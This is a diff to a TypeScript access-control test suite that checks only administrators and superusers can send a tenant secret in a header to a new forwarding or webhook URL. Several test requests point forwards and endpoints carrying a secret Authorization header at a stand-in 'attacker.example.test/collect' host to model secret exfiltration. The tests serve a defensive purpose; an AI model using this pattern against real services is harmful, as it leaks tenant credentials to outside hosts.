@@ -277,7 +277,10 @@ describe('RBAC matrix', () => {
  *   string render) is credential authority, like rotating them: `edit_connection` alone gets 403 `forbidden` with
  *   `missing_capability: create_connection`;
  * - revoking an API key is acting on its holder's access: a caller lacking any capability of the key's role (or
- *   a non-superuser facing a superuser's key) gets 403 `privilege_escalation`, whatever role lets it manage keys.
+ *   a non-superuser facing a superuser's key) gets 403 `privilege_escalation`, whatever role lets it manage keys;
+ * - sending a tenant secret to a URL it was not sent to before (a header `{{secrets.X}}` saved on an inbound forward
+ *   action or an outbound endpoint, or the URL moved under such a header) is secret authority: `manage_inbound` or
+ *   `manage_webhooks` alone get 403 `forbidden` with `missing_capability: manage_secrets`.
  */
 describe('RBAC matrix: rules inside a route', () => {
   it('PATCH /v1/connections/:id moving the destination: Administrator and superuser only', async () => {
@@ -330,5 +333,163 @@ describe('RBAC matrix: rules inside a route', () => {
       const row = await t.db.query('select revoked_at from api_keys where id = $1', [id]);
       expect(row.rows, who).toEqual([{ revoked_at: null }]);
     }
+  });
+
+  /**
+   * Each caller's request against a fresh target made by the administrator: allowed for the Administrator and the
+   * superuser; the Editor lacks manage_secrets; the Viewer lacks the route's own capability. Nothing changes when
+   * refused.
+   */
+  async function expectSecretAuthority(
+    route: string,
+    request: (caller: Caller) => Promise<{ method: 'POST' | 'PATCH'; url: string; body: Record<string, unknown> }>,
+    unchanged: (caller: Caller) => Promise<unknown>,
+  ) {
+    const routeCapability = expected[route]?.access;
+    for (const caller of callers) {
+      const req = await request(caller);
+      const before = await rowCounts(t, dataTables);
+      const stateBefore = await unchanged(caller);
+      const res = await t.request({ ...req, token: caller.token });
+      const who = `${caller.name} → ${route}: ${res.body.slice(0, 300)}`;
+      if (caller.role === 'administrator' || caller.role === 'superuser') {
+        expect(res.statusCode, who).toBeGreaterThanOrEqual(200);
+        expect(res.statusCode, who).toBeLessThan(300);
+        continue;
+      }
+      expect(res.statusCode, who).toBe(403);
+      expect(res.data.code, who).toBe('forbidden');
+      expect(res.data.missing_capability, who).toBe(caller.role === 'editor' ? 'manage_secrets' : routeCapability);
+      if (caller.role === 'editor') expect(res.data.secret_references, who).toEqual([fixtures.secretName]);
+      expect(await rowCounts(t, dataTables), who).toEqual(before);
+      expect(await unchanged(caller), who).toEqual(stateBefore);
+    }
+  }
+
+  const secretHeader = () => ({ Authorization: `Bearer {{secrets.${fixtures.secretName}}}` });
+  const forwardRule = (url: string, headers?: Record<string, string>) => ({
+    name: 'relay',
+    actions: [{ type: 'forward', url, ...(headers ? { headers } : {}) }],
+  });
+  const sourceWithSecretForward = async () => {
+    const res = await t.request({
+      method: 'POST',
+      url: '/v1/inbound/sources',
+      body: {
+        name: `secret-forward-${Math.random()}`,
+        verification: { type: 'none' },
+        rules: [forwardRule('https://receiver.example.test/in', secretHeader())],
+      },
+    });
+    expect(res.statusCode, res.body).toBe(201);
+    return (res.data.source as { id: string }).id;
+  };
+  const endpointWithSecretHeader = async () => {
+    const res = await t.request({
+      method: 'POST',
+      url: '/v1/webhooks/endpoints',
+      body: { url: 'https://receiver.example.test/out', headers: secretHeader() },
+    });
+    expect(res.statusCode, res.body).toBe(201);
+    return res.data.id as string;
+  };
+  const sourceRules = async (id: string) =>
+    (await t.request({ url: `/v1/inbound/sources/${id}` })).data.rules as unknown;
+  const endpointState = async (id: string) => {
+    const { data } = await t.request({ url: `/v1/webhooks/endpoints/${id}` });
+    return { url: data.url, header_names: data.header_names };
+  };
+
+  it('POST /v1/inbound/sources with a forward header naming a tenant secret: secret authority', async () => {
+    await expectSecretAuthority(
+      'POST /v1/inbound/sources',
+      async () => ({
+        method: 'POST',
+        url: '/v1/inbound/sources',
+        body: {
+          name: `attacker-${Math.random()}`,
+          verification: { type: 'none' },
+          rules: [forwardRule('https://attacker.example.test/collect', secretHeader())],
+        },
+      }),
+      async () => (await t.db.query('select count(*)::int as n from inbound_sources')).rows,
+    );
+  });
+
+  it('PATCH /v1/inbound/sources/:id moving a forward whose headers name a secret: secret authority', async () => {
+    const sources = new Map<string, string>();
+    await expectSecretAuthority(
+      'PATCH /v1/inbound/sources/:id',
+      async (caller) => {
+        const id = await sourceWithSecretForward();
+        sources.set(caller.name, id);
+        return {
+          method: 'PATCH',
+          url: `/v1/inbound/sources/${id}`,
+          body: { rules: [forwardRule('https://attacker.example.test/collect', secretHeader())] },
+        };
+      },
+      async (caller) => sourceRules(sources.get(caller.name) as string),
+    );
+  });
+
+  it('PATCH /v1/inbound/sources/:id keeping or dropping a secret header where it went: manage_inbound suffices', async () => {
+    const editor = callers.find((c) => c.role === 'editor') as Caller;
+    const id = await sourceWithSecretForward();
+    const patch = (body: Record<string, unknown>) =>
+      t.request({ method: 'PATCH', url: `/v1/inbound/sources/${id}`, body, token: editor.token });
+    // The same header to the same URL (restated, or left out and kept), another rule beside it, then no header.
+    const restated = await patch({
+      rules: [
+        forwardRule('https://receiver.example.test/in', secretHeader()),
+        { ...forwardRule('https://other.example.test/in'), name: 'other' },
+      ],
+    });
+    expect(restated.statusCode, restated.body).toBe(200);
+    const kept = await patch({ description: 'kept', rules: [forwardRule('https://receiver.example.test/in')] });
+    expect(kept.statusCode, kept.body).toBe(200);
+    expect(kept.data.rules).toMatchObject([{ actions: [{ header_names: ['authorization'] }] }]);
+    const dropped = await patch({ rules: [forwardRule('https://elsewhere.example.test/in', {})] });
+    expect(dropped.statusCode, dropped.body).toBe(200);
+    expect(dropped.data.rules).toMatchObject([{ actions: [{ header_names: [] }] }]);
+  });
+
+  it('POST /v1/webhooks/endpoints with a header naming a tenant secret: secret authority', async () => {
+    await expectSecretAuthority(
+      'POST /v1/webhooks/endpoints',
+      async () => ({
+        method: 'POST',
+        url: '/v1/webhooks/endpoints',
+        body: { url: 'https://attacker.example.test/collect', headers: secretHeader() },
+      }),
+      async () => (await t.db.query('select count(*)::int as n from webhook_endpoints')).rows,
+    );
+  });
+
+  it('PATCH /v1/webhooks/endpoints/:id moving an endpoint whose headers name a secret: secret authority', async () => {
+    const endpoints = new Map<string, string>();
+    await expectSecretAuthority(
+      'PATCH /v1/webhooks/endpoints/:id',
+      async (caller) => {
+        const id = await endpointWithSecretHeader();
+        endpoints.set(caller.name, id);
+        return {
+          method: 'PATCH',
+          url: `/v1/webhooks/endpoints/${id}`,
+          body: { url: 'https://attacker.example.test/x' },
+        };
+      },
+      async (caller) => endpointState(endpoints.get(caller.name) as string),
+    );
+    // Anything else about such an endpoint stays the editor's to change.
+    const editor = callers.find((c) => c.role === 'editor') as Caller;
+    const id = await endpointWithSecretHeader();
+    const res = await t.request({
+      method: 'PATCH',
+      url: `/v1/webhooks/endpoints/${id}`,
+      body: { description: 'renamed', headers: { ...secretHeader(), 'X-Extra': 'plain' } },
+      token: editor.token,
+    });
+    expect(res.statusCode, res.body).toBe(200);
   });
 });
